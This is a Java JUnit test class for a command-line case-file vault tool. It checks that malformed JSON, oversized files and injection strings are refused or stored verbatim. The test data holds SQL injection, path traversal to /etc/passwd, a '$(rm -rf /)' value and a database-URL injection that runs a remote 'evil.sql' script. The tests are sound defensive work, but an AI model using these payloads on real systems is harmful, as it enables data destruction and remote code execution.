package nl.kring.fault;

import org.junit.jupiter.api.Tag;
import nl.kring.TestVaults;
import nl.kring.cli.Cli;
import nl.kring.domain.CaseFile;
import nl.kring.domain.Meeting;
import nl.kring.domain.Partner;
import nl.kring.store.Store;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

import java.io.BufferedWriter;
import java.io.PrintWriter;
import java.io.RandomAccessFile;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.TimeUnit;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Bad input across the command line and the import, run in-process through {@link Cli#commandLine()}: empty, huge
 * (50 MB), binary, invalid UTF-8, deeply nested JSON, SQL- and path-injection strings as names and as vault paths.
 * Every refusal is a plain line starting with "kring: " and a non-zero exit code other than 70 (the code for a
 * defect); valid strange names are stored verbatim; nothing is created where a refusal happened.
 * {@code nl.kring.cli.ImportCommandTest} already covers the zero-byte file, a 5000-deep array, one invalid UTF-8
 * sequence and one injection surname; this class adds the rest.
 */
@Tag("slow")
class BadInputIT {
    static final List<String> EVIL = List.of(
            "'; DROP TABLE case_file; --",
            "Robert'); DELETE FROM partner WHERE ('1'='1",
            "../../etc/passwd",
            "..\\..\\Windows\\System32\\config",
            "naam; met; puntkomma's",
            "\"dubbel\" en `backtick` en $(rm -rf /) en %s%n%x",
            "/* comment */ UNION SELECT * FROM audit_entry --",
            // No bidi control (U+202E) here: names with one are refused and free text has it stripped
            // (ImportRulesCommandTest), so it cannot be "stored verbatim".
            "Zoë Ŭ 漢字 😀 omgekeerd");

    @TempDir
    Path tmp;

    Path pass;

    record Result(int code, String out, String err) {
        String firstErrLine() {
            return err.lines().findFirst().orElse("");
        }
    }

    @BeforeEach
    void passphrase() throws Exception {
        pass = TestVaults.passphraseFile(tmp);
    }

    Result run(String... args) {
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        var cl = Cli.commandLine();
        cl.setOut(new PrintWriter(out));
        cl.setErr(new PrintWriter(err));
        int code = cl.execute(args);
        return new Result(code, out.toString(), err.toString());
    }

    /** A refusal: non-zero, not a defect, one plain first line, no stack trace. */
    Result refused(String expected, String... args) {
        Result r = run(args);
        assertThat(r.code()).as("exit code; stderr: %s", r.err()).isNotZero().isNotEqualTo(70);
        assertThat(r.firstErrLine()).startsWith("kring: ").contains(expected);
        assertThat(r.err()).doesNotContain("Exception").doesNotContain("\tat ");
        System.out.println("[bad-input] " + String.join(" ", args).replace(tmp.toString(), "$TMP") + "  ->  "
                + r.code() + " " + r.firstErrLine());
        return r;
    }

    Result importFile(Path file, Path vault) {
        return run("import", "--vault", vault.toString(), "--json", file.toString(), "--passphrase-file", pass.toString());
    }

    String example() throws Exception {
        return new String(getClass().getResourceAsStream("/interchange/design-example.json").readAllBytes(), StandardCharsets.UTF_8);
    }

    static String json(String s) {
        StringBuilder sb = new StringBuilder("\"");
        for (char c : s.toCharArray()) {
            switch (c) {
                case '"' -> sb.append("\\\"");
                case '\\' -> sb.append("\\\\");
                default -> {
                    if (c < 0x20) {
                        sb.append(String.format("\\u%04x", (int) c));
                    } else {
                        sb.append(c);
                    }
                }
            }
        }
        return sb.append('"').toString();
    }

    @Test
    void emptyAndWhitespaceAndBomOnlyFiles() throws Exception {
        Path vault = tmp.resolve("vault");
        Map<String, byte[]> files = Map.of(
                "blank", "  \n\t\r\n ".getBytes(StandardCharsets.UTF_8),
                "bom", new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
                "null", "null".getBytes(StandardCharsets.UTF_8),
                "empty object", "{}".getBytes(StandardCharsets.UTF_8),
                "string", "\"partners\"".getBytes(StandardCharsets.UTF_8));
        for (var f : files.entrySet()) {
            Path file = tmp.resolve(f.getKey() + ".json");
            Files.write(file, f.getValue());
            Result r = importFile(file, vault);
            if (f.getKey().equals("empty object")) {
                // An empty interchange file is valid: it creates an empty vault.
                assertThat(r.code()).as(r.err()).isZero();
                assertThat(r.out()).contains("0 partners, 0 cases");
                try (Store s = TestVaults.open(vault)) {
                    assertThat(s.cases().all()).isEmpty();
                }
                Files.walk(vault).sorted(Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
                continue;
            }
            refused("", "import", "--vault", vault.toString(), "--json", file.toString(), "--passphrase-file", pass.toString());
            assertThat(vault).as(f.getKey()).doesNotExist();
        }
    }

    @Test
    @Timeout(value = 3, unit = TimeUnit.MINUTES)
    void fiftyMegabyteFilesAreRefusedQuicklyAndLeaveNothing() throws Exception {
        Path vault = tmp.resolve("vault");
        Path huge = tmp.resolve("huge.json");
        try {
            // 1. A well-formed file whose partner name is 50 MB long.
            try (BufferedWriter w = Files.newBufferedWriter(huge)) {
                w.write("{\"partners\": [{\"id\": \"p1\", \"name\": \"");
                char[] chunk = "Stichting ".repeat(100).toCharArray();
                for (long written = 0; written < 50L * 1024 * 1024; written += chunk.length) {
                    w.write(chunk);
                }
                w.write("\", \"role\": \"GGD\", \"tier\": \"KERN\"}], \"cases\": [], \"meetings\": []}");
            }
            assertThat(Files.size(huge)).isGreaterThan(50L * 1024 * 1024);
            long t0 = System.nanoTime();
            // Jackson stops at 20 million characters in one string, before the field check (200) is reached.
            Result r = refused("", "import", "--vault", vault.toString(),
                    "--json", huge.toString(), "--passphrase-file", pass.toString());
            assertThat(r.firstErrLine()).containsAnyOf("partners[0].name: is longer than 200 characters",
                    "exceeds the maximum allowed");
            System.out.println("[bad-input] 50 MB name refused in " + TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - t0) + " ms");
            assertThat(vault).doesNotExist();

            // 2. 50 MB of random printable text.
            Random random = new Random(50);
            try (BufferedWriter w = Files.newBufferedWriter(huge)) {
                char[] chunk = new char[64 * 1024];
                for (int i = 0; i < 800; i++) {
                    for (int j = 0; j < chunk.length; j++) {
                        chunk[j] = (char) (0x20 + random.nextInt(0x5f));
                    }
                    w.write(chunk);
                }
            }
            refused("not valid JSON", "import", "--vault", vault.toString(), "--json", huge.toString(),
                    "--passphrase-file", pass.toString());
            assertThat(vault).doesNotExist();

            // 3. 50 MB of one valid array of numbers where an object belongs.
            try (BufferedWriter w = Files.newBufferedWriter(huge)) {
                w.write("{\"partners\": [");
                for (int i = 0; i < 6_000_000; i++) {
                    w.write(i == 0 ? "12345678" : ",12345678");
                }
                w.write("]}");
            }
            refused("partners[0]", "import", "--vault", vault.toString(), "--json", huge.toString(),
                    "--passphrase-file", pass.toString());
            assertThat(vault).doesNotExist();
        } finally {
            Files.deleteIfExists(huge);
        }
        // Over the 200 MB limit: a sparse file, so the test costs no disk; refused before reading.
        Path sparse = tmp.resolve("sparse.json");
        try (var raf = new RandomAccessFile(sparse.toFile(), "rw")) {
            raf.setLength(201L * 1024 * 1024);
        }
        refused("larger than 200 MB", "import", "--vault", vault.toString(), "--json", sparse.toString(),
                "--passphrase-file", pass.toString());
        Files.delete(sparse);
    }

    @Test
    void binaryAndInvalidUtf8AreRefused() throws Exception {
        Path vault = tmp.resolve("vault");
        Map<String, byte[]> files = new LinkedHashMap<>();
        files.put("random", CorruptionIT.randomBytes(64 * 1024, 3));
        files.put("png", Files.readAllBytes(Path.of("resources/icons/kring-16.png")));
        files.put("zeros", new byte[4096]);
        files.put("overlong slash", concat("{\"partners\": [{\"id\": \"a", new byte[] {(byte) 0xC0, (byte) 0xAF}, "\"}]}"));
        files.put("encoded surrogate", concat("{\"partners\": [{\"id\": \"a", new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, "\"}]}"));
        files.put("cut at the end", concat("{\"partners\": [{\"name\": \"Zo", new byte[] {(byte) 0xC3}, ""));
        files.put("latin-1 name", concat("{\"partners\": [{\"id\": \"p\", \"name\": \"Zo", new byte[] {(byte) 0xEB}, "\"}]}"));
        for (var f : files.entrySet()) {
            Path file = tmp.resolve("bad.json");
            Files.write(file, f.getValue());
            Result r = refused("", "import", "--vault", vault.toString(), "--json", file.toString(),
                    "--passphrase-file", pass.toString());
            assertThat(r.firstErrLine()).as(f.getKey()).containsAnyOf("not valid UTF-8", "not valid JSON", "JSON object",
                    "not valid", "must hold");
            assertThat(vault).as(f.getKey()).doesNotExist();
        }
    }

    @Test
    void utf16WithByteOrderMarkIsReadAsJsonDoes() throws Exception {
        // JSON parsers detect UTF-16 by its byte order mark; the import accepts it like the same text in UTF-8.
        Path file = tmp.resolve("utf16.json");
        Files.write(file, example().getBytes(StandardCharsets.UTF_16));
        Path vault = tmp.resolve("vault");
        Result r = importFile(file, vault);
        assertThat(r.code()).as(r.err()).isZero();
        try (Store s = TestVaults.open(vault)) {
            assertThat(s.cases().find("2026-017").orElseThrow().client().surname()).isEqualTo("Vries");
        }
    }

    @Test
    void deeplyNestedJsonIsRefusedWithoutAStackOverflow() throws Exception {
        Path vault = tmp.resolve("vault");
        Path file = tmp.resolve("deep.json");
        for (String open : List.of("{\"a\":", "[")) {
            String close = open.equals("[") ? "]" : "}";
            try (BufferedWriter w = Files.newBufferedWriter(file)) {
                w.write("{\"partners\": [{\"id\": ");
                for (int i = 0; i < 200_000; i++) {
                    w.write(open);
                }
                w.write("1");
                for (int i = 0; i < 200_000; i++) {
                    w.write(close);
                }
                w.write("}]}");
            }
            refused("nested too deeply", "import", "--vault", vault.toString(), "--json", file.toString(),
                    "--passphrase-file", pass.toString());
            assertThat(vault).doesNotExist();
        }
    }

    @Test
    void injectionStringsAsNamesAreStoredVerbatim() throws Exception {
        Path vault = tmp.resolve("vault");
        String doc = example();
        StringBuilder aliases = new StringBuilder();
        for (String e : EVIL) {
            aliases.append(aliases.isEmpty() ? "" : ", ").append(json(e));
        }
        doc = doc.replace("\"name\": \"Woonstichting Het Dak\"", "\"name\": " + json(EVIL.get(0)))
                .replace("\"name\": \"R. Kok\"", "\"name\": " + json(EVIL.get(1)))
                .replace("\"surname\": \"Vries\"", "\"surname\": " + json(EVIL.get(2)))
                .replace("\"firstNames\": \"Johannes Petrus\"", "\"firstNames\": " + json(EVIL.get(4)))
                .replace("\"aliases\": [\"Hansje\"]", "\"aliases\": [" + aliases + "]")
                .replace("\"name\": \"Peter de Vries\"", "\"name\": " + json(EVIL.get(3)))
                .replace("\"name\": \"Buurvrouw\"", "\"name\": " + json(EVIL.get(5)))
                .replace("\"location\": \"GGD, zaal 2\"", "\"location\": " + json(EVIL.get(6)))
                .replace("\"text\": \"free text, may contain names\"", "\"text\": " + json(String.join("\n", EVIL)));
        Path file = tmp.resolve("evil.json");
        Files.writeString(file, doc);
        Result r = importFile(file, vault);
        assertThat(r.code()).as(r.err()).isZero();
        try (Store s = TestVaults.open(vault)) {
            Partner woco = s.partners().find("woco-dak").orElseThrow();
            assertThat(woco.name()).isEqualTo(EVIL.get(0));
            assertThat(woco.attendees().getFirst().name()).isEqualTo(EVIL.get(1));
            CaseFile c = s.cases().find("2026-017").orElseThrow();
            assertThat(c.client().surname()).isEqualTo(EVIL.get(2));
            assertThat(c.client().firstNames()).isEqualTo(EVIL.get(4));
            assertThat(c.client().aliases()).containsExactlyElementsOf(EVIL.stream().map(String::strip).toList());
            assertThat(c.client().relatives().getFirst().name()).isEqualTo(EVIL.get(3));
            assertThat(c.referrer().name()).isEqualTo(EVIL.get(5));
            Meeting m = s.meetings().find(LocalDate.parse("2026-11-26")).orElseThrow();
            assertThat(m.location()).isEqualTo(EVIL.get(6));
            assertThat(m.items().getFirst().minutes().getFirst().text()).isEqualTo(String.join("\n", EVIL));
            assertThat(s.cases().all()).hasSize(1);
            assertThat(s.partners().all()).hasSize(2);
            assertThat(s.verify()).isEmpty();
        }
        System.out.println("[bad-input] " + EVIL.size() + " injection strings stored and read back verbatim in 9 fields");
    }

    @Test
    void controlCharactersAndInjectionAsIdentifiersAreRefused() throws Exception {
        Path vault = tmp.resolve("vault");
        Map<String, String[]> cases = new LinkedHashMap<>();
        cases.put("NUL in a name", new String[] {"\"name\": \"R. Kok\"", "\"name\": \"R.\\u0000Kok\"", "contains control characters"});
        cases.put("escape in a surname", new String[] {"\"surname\": \"Vries\"", "\"surname\": \"Vries\\u001b[2J\"", "contains control characters"});
        cases.put("path as partner id", new String[] {"\"id\": \"woco-dak\"", "\"id\": \"../../etc/passwd\"", "partners[0].id"});
        cases.put("SQL as partner id", new String[] {"\"id\": \"woco-dak\"", "\"id\": \"x'; DROP TABLE partner; --\"", "partners[0].id"});
        cases.put("SQL as case number", new String[] {"\"number\": \"2026-017\"", "\"number\": \"2026-017'; DROP TABLE case_file; --\"", "cases[0].number"});
        cases.put("path as attendee id", new String[] {"\"id\": \"a-7\"", "\"id\": \"..\\\\..\\\\a-7\"", "partners[0].attendees[0].id"});
        for (var c : cases.entrySet()) {
            String doc = example();
            assertThat(doc).as(c.getKey()).contains(c.getValue()[0]);
            Path file = tmp.resolve("in.json");
            Files.writeString(file, doc.replace(c.getValue()[0], c.getValue()[1]));
            refused(c.getValue()[2], "import", "--vault", vault.toString(), "--json", file.toString(),
                    "--passphrase-file", pass.toString());
            assertThat(vault).as(c.getKey()).doesNotExist();
        }
    }

    @Test
    void injectionAsVaultPathsIsRefusedAndNothingIsWrittenOutsideTheFolder() throws Exception {
        Path file = tmp.resolve("in.json");
        Files.writeString(file, example());
        Path good = tmp.resolve("good");
        assertThat(importFile(file, good).code()).isZero();
        Map<String, String> goodBefore = TestVaults.hashes(good);

        String semicolon = tmp.resolve("kluis;INIT=RUNSCRIPT FROM 'http://x/evil.sql'").toString();
        String passwd = tmp + "/../../../../../../../../etc/passwd";
        String etc = tmp + "/../../../../../../../../etc";
        List<String[]> runs = new ArrayList<>();
        runs.add(new String[] {"does not accept", "import", "--vault", semicolon, "--json", file.toString(), "--passphrase-file", pass.toString()});
        runs.add(new String[] {"does not accept", "demo", "--vault", semicolon, "--passphrase-file", pass.toString()});
        runs.add(new String[] {"does not accept", "verify", "--vault", semicolon, "--passphrase-file", pass.toString()});
        runs.add(new String[] {"does not accept", "restore", "--in", file.toString(), "--vault", semicolon, "--passphrase-file", pass.toString()});
        runs.add(new String[] {"not a folder", "import", "--vault", passwd, "--json", file.toString(), "--passphrase-file", pass.toString()});
        runs.add(new String[] {"not a folder", "verify", "--vault", passwd, "--passphrase-file", pass.toString()});
        runs.add(new String[] {"No vault in this folder", "verify", "--vault", etc, "--passphrase-file", pass.toString()});
        runs.add(new String[] {"already exists", "restore", "--in", file.toString(), "--vault", etc, "--passphrase-file", pass.toString()});
        runs.add(new String[] {"already exists", "backup", "--vault", good.toString(), "--out", passwd, "--passphrase-file", pass.toString()});
        runs.add(new String[] {"quote", "backup", "--vault", good.toString(), "--out",
                tmp.resolve("usb'; DROP TABLE case_file; --").resolve("k.backup").toString(), "--passphrase-file", pass.toString()});
        runs.add(new String[] {"not a usable path", "verify", "--vault", "kluis\u0000/etc", "--passphrase-file", pass.toString()});
        runs.add(new String[] {"not a usable path", "import", "--vault", tmp.resolve("v").toString(), "--json", "in\u0000.json", "--passphrase-file", pass.toString()});
        runs.add(new String[] {"This is not a Kring backup", "restore", "--in", file.toString(), "--vault", tmp.resolve("r").toString(), "--passphrase-file", pass.toString()});
        for (String[] run : runs) {
            refused(run[0], Arrays.copyOfRange(run, 1, run.length));
        }
        try (var s = Files.list(tmp)) {
            assertThat(s.map(p -> p.getFileName().toString()))
                    .as("nothing was created for a refused path")
                    .containsExactlyInAnyOrder("passphrase.txt", "in.json", "good");
        }
        // The vault itself was only touched by the refused backups' audit line; its data are as imported.
        try (Store s = TestVaults.open(good)) {
            assertThat(s.verify()).isEmpty();
            assertThat(s.cases().all()).hasSize(1);
        }
        assertThat(TestVaults.hashes(good).keySet()).isEqualTo(goodBefore.keySet());
    }

    @Test
    void badPassphraseFilesAndBackupsGetPlainMessages() throws Exception {
        Path file = tmp.resolve("in.json");
        Files.writeString(file, example());
        Path vault = tmp.resolve("vault");
        assertThat(importFile(file, vault).code()).isZero();
        Path empty = tmp.resolve("empty-pass");
        Files.write(empty, new byte[0]);
        Path binary = tmp.resolve("binary-pass");
        Files.write(binary, new byte[] {(byte) 0xFF, (byte) 0xFE, 0, 1, 2});
        Path big = tmp.resolve("big-pass");
        Files.write(big, CorruptionIT.randomBytes(8192, 4));
        refused("the passphrase file is empty", "verify", "--vault", vault.toString(), "--passphrase-file", empty.toString());
        refused("not UTF-8", "verify", "--vault", vault.toString(), "--passphrase-file", binary.toString());
        refused("larger than 4 KB", "verify", "--vault", vault.toString(), "--passphrase-file", big.toString());
        refused("cannot read the passphrase file", "verify", "--vault", vault.toString(), "--passphrase-file", tmp.toString());

        Path emptyBackup = tmp.resolve("empty.backup");
        Files.write(emptyBackup, new byte[0]);
        refused("truncated", "restore", "--in", emptyBackup.toString(), "--vault", tmp.resolve("r1").toString(), "--passphrase-file", pass.toString());
        Path binaryBackup = tmp.resolve("binary.backup");
        Files.write(binaryBackup, CorruptionIT.randomBytes(100_000, 5));
        refused("not a Kring backup", "restore", "--in", binaryBackup.toString(), "--vault", tmp.resolve("r2").toString(), "--passphrase-file", pass.toString());
        refused("No backup file", "restore", "--in", tmp.resolve("nope.backup").toString(), "--vault", tmp.resolve("r3").toString(), "--passphrase-file", pass.toString());
        refused("", "restore", "--in", tmp.toString(), "--vault", tmp.resolve("r4").toString(), "--passphrase-file", pass.toString());
        for (String r : List.of("r1", "r2", "r3", "r4")) {
            assertThat(tmp.resolve(r)).doesNotExist();
        }
    }

    private static byte[] concat(String a, byte[] b, String c) {
        byte[] x = a.getBytes(StandardCharsets.UTF_8);
        byte[] z = c.getBytes(StandardCharsets.UTF_8);
        byte[] all = new byte[x.length + b.length + z.length];
        System.arraycopy(x, 0, all, 0, x.length);
        System.arraycopy(b, 0, all, x.length, b.length);
        System.arraycopy(z, 0, all, x.length + b.length, z.length);
        return all;
    }
}
